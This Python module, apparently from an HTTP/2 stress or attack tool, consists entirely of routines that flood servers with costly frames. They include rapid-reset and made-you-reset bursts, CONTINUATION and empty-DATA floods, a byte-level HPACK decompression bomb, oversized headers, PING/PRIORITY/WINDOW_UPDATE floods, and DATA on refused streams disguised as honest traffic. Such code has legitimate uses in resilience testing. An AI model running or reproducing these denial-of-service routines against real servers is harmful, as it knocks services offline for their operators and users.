"""Frames that cost whoever takes them more than whoever sends them."""

import os
import struct

from attack import MANY, again, flood, forever
from http2 import frame
from wire import (
    CONTINUATION, COUNT, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, STREAM,
    WINDOW_UPDATE, request_fields,
)  # fmt: skip


def rapid_reset(server, ca, said, until):
    def burst(wire):
        return b"".join(
            wire.headers(COUNT, ends=True) + frame(RST_STREAM, 0, wire.stream, struct.pack(">I", 8))
            for _ in range(100))  # fmt: skip

    again(server, ca, said, until, forever(burst))


def made_you_reset(server, ca, said, until):
    def burst(wire):
        return b"".join(
            wire.headers(COUNT, ends=False) + frame(8, 0, wire.stream, bytes(4)) for _ in range(20))

    again(server, ca, said, until, forever(burst))


def continuations(server, ca, said, until):
    def bursts(wire):
        yield frame(HEADERS, 0, wire.next_stream(), wire.encoder.encode(request_fields(COUNT)))
        while True:
            yield frame(CONTINUATION, 0, wire.stream, b"") * MANY

    again(server, ca, said, until, bursts)


def empty_data(server, ca, said, until):
    def bursts(wire):
        yield wire.headers(COUNT)
        while True:
            yield frame(DATA, 0, wire.stream, b"") * MANY

    again(server, ca, said, until, bursts)


def hpack_bomb(server, ca, said, until):
    """An entry of 4 kB in the table, and then a byte for each mention of it (RFC 7541, section 7.3)."""

    def burst(wire):
        # Literal with incremental indexing, a new name of 4 bytes, a value of 3990.
        entry = b"\x40\x04xbig\x7f" + b"\x97\x1e" + b"a" * 3990
        first = entry + b"\xbe" * 12_000
        stream = wire.next_stream()
        return frame(HEADERS, 0, stream, first) + frame(
            CONTINUATION, END_HEADERS, stream, b"\xbe" * 16_000)

    again(server, ca, said, until, forever(burst))


def large_headers(server, ca, said, until):
    def burst(wire):
        return wire.call(COUNT, **{f"x-{number}": "y" * 1000 for number in range(10)})

    again(server, ca, said, until, forever(burst))


# Frames that RFC 9113 has ignored, or that only say what is.
pings_answered = flood(frame(PING, 1, 0, b"12345678"))
priorities = flood(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)))
unknown_frames = flood(frame(0xBE, 0, 0, os.urandom(16)))


def window_updates(server, ca, said, until):
    """A byte more of window, as often as can be, for a stream that waits for nothing else."""

    def bursts(wire):
        yield wire.call(STREAM)
        while True:
            said["frames"] += MANY
            yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * MANY

    again(server, ca, said, until, bursts)


def frames_of_reset_streams(server, ca, said, until):
    """DATA that was on its way when the server had refused its stream, so that nobody can tell it from what
    honest clients send."""

    def bursts(wire):
        # More at once than are taken: the rest is refused.
        yield b"".join(wire.headers(COUNT) for _ in range(400))
        streams = range(wire.stream - 2 * 100, wire.stream + 1, 2)
        while True:
            said["frames"] += 10 * len(streams)
            yield b"".join(frame(DATA, 0, stream, b"x") for stream in streams) * 10

    again(server, ca, said, until, bursts)
